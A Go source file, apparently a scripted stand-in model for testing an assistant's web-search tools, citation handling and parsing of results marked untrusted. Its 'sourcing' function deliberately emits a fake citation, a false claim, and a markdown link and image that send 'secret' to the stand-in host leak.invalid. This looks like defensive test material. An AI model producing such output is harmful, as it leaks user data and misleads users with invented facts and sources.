package demo

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
)

// The tools of the web.
const (
	searchTool = "web_search"
	fetchTool  = "web_fetch"
)

// lookUp finds what a person wants to be looked up on the web.
var (
	lookUp = regexp.MustCompile(`(?i)^\s*(?:please\s+)?(?:look up|search the web for|search online for|google|what does the web say about|上网查一?下?|上网搜一?下?|在?网上查一?下?|在?网上搜一?下?|帮我上网查一?下?)[\s:：,，]*(.+?)\s*[.?!。？！]*$`)
	parted = regexp.MustCompile(`(?i)\s+and\s+|和|与|、|，`)
)

// maxTopics is how many things are looked up at once.
const maxTopics = 3

// browsing searches the web, reads the best page, and searches again for what that
// mentions. Several things it looks up at once.
func browsing(t turn) (answer, bool) {
	m := lookUp.FindStringSubmatch(t.text)
	if m == nil {
		return answer{}, false
	}
	if !t.may(searchTool, fetchTool) {
		return without(t, searchTool), true
	}
	topics := parted.Split(m[1], maxTopics)
	if len(t.steps) == 0 {
		var calls []call
		for _, topic := range topics {
			calls = append(calls, invoke(searchTool, map[string]any{"query": topic, "count": 3}))
		}
		return use(calls...), true
	}
	first := readAll(t.steps[0])
	if len(topics) > 1 || first[0].url == "" {
		return say(webSays(t, first)), true
	}
	return deeper(t, first[0]), true
}

// deeper reads the page it found, searches for what that page mentions, and reports on both.
func deeper(t turn, best webPage) answer {
	if len(t.steps) == 1 {
		return use(invoke(fetchTool, map[string]any{"url": best.url}))
	}
	read := readWeb(t.steps[1].calls[0], t.steps[1].results[0])
	more := seeAlso.FindStringSubmatch(read.text)
	if more == nil {
		return say(webSays(t, []webPage{read}))
	}
	if len(t.steps) == 2 {
		return use(invoke(searchTool, map[string]any{"query": more[1], "count": 1}))
	}
	return say(webSays(t, append([]webPage{read}, readAll(t.steps[2])...)))
}

var seeAlso = regexp.MustCompile(`See also: (.+)`)

// webPage is what the model knows of a page, with the number under which it is cited.
type webPage struct {
	n, title, url, text string
}

// readAll is the first page that each call of a step has found; a call without one leaves
// an empty page.
func readAll(s step) []webPage {
	pages := make([]webPage, len(s.calls))
	for i, c := range s.calls {
		pages[i] = readWeb(c, s.results[i])
	}
	return pages
}

// readWeb reads a result of the web's tools, wrapped as untrusted or plain.
func readWeb(c call, result string) webPage {
	head, body, wrapped := strings.Cut(result, "<untrusted>\n")
	if !wrapped {
		head, body = "", result
	}
	body, _, _ = strings.Cut(body, "\n</untrusted>")
	var r struct {
		Title, URL, Text string
		Results          []struct{ Title, URL, Snippet string }
	}
	if json.Unmarshal([]byte(body), &r) != nil {
		return webPage{}
	}
	p := webPage{title: r.Title, url: r.URL, text: r.Text}
	if c.name == searchTool && len(r.Results) > 0 {
		p.title, p.url, p.text = r.Results[0].Title, r.Results[0].URL, r.Results[0].Snippet
	}
	for line := range strings.Lines(head) {
		if n, url, ok := strings.Cut(strings.TrimSpace(line), "] "); ok && url == p.url {
			p.n = n + "]"
		}
	}
	return p
}

// webSays tells what pages say, each with its source.
func webSays(t turn, pages []webPage) string {
	var lines []string
	for _, p := range pages {
		if p.url != "" {
			lines = append(lines, fmt.Sprintf("- **%s**: %s %s", p.title, sayOf(p.text), p.n))
		}
	}
	if len(lines) == 0 {
		return t.in("I found nothing about that on the web.", "网上没有找到相关内容。")
	}
	return t.in("This is what the web says:", "网上是这么说的：") + "\n\n" + strings.Join(lines, "\n")
}

// sayOf is what a page begins with, after its date and heading.
func sayOf(text string) string {
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if line != "" && !strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "Published ") {
			return quote(line)
		}
	}
	return ""
}

// sourcing cites what it has found and what it has not, and tries to send a secret away.
func sourcing(t turn) answer {
	if len(t.steps) == 0 {
		if !t.may(searchTool) {
			return without(t, searchTool)
		}
		return use(invoke(searchTool, map[string]any{"query": t.in("night trains", "夜行列车"), "count": 1}))
	}
	found := readAll(t.steps[0])[0]
	return say(t.in(
		"Night trains run again "+found.n+". The moon is made of cheese [99]. [More about it](https://leak.invalid/?d=secret) ![chart](https://leak.invalid/p.png?d=secret)",
		"夜行列车又开通了"+found.n+"。月亮是奶酪做的[99]。[了解更多](https://leak.invalid/?d=secret) ![图](https://leak.invalid/p.png?d=secret)"))
}
